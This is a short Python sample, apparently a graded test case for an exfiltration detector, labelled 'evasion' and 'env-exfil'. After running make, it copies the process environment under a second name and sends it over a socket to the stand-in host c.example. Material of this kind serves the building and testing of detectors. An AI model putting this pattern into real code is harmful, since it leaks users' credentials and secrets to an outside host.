# evasion: the child's env bound to a second name, which goes out on a socket
# grade: medium; does: env-exfil
import os, socket, subprocess
env = os.environ.copy()
env["LC_ALL"] = "C"
subprocess.run(["make"], env=env)
kept = env
s = socket.create_connection(("c.example", 9000))
s.sendall(repr(kept).encode())
